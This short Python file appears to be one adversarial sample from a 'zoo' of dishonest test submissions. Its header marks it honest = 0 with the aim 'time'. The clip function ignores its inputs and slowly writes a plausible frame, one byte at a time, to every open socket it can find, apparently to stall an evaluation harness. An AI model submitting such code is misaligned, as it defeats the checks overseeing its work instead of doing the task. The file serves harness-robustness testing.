# /// zoo
# title = "A frame of the right form arrives one byte a second, for ever"
# class = "bridge"
# base = "stub"
# honest = 0
# aim = "time"
# ///

# %% clip
import json, os, stat, struct, time
def clip(gradients, maxValue):
    text = json.dumps(["ret", ["d", [], []]] + [None] * 5).encode() + b" " * 3000
    for byte in struct.pack("<IQ", len(text), 0) + text:
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, bytes([byte]))
            except OSError: pass
        time.sleep(0.5)
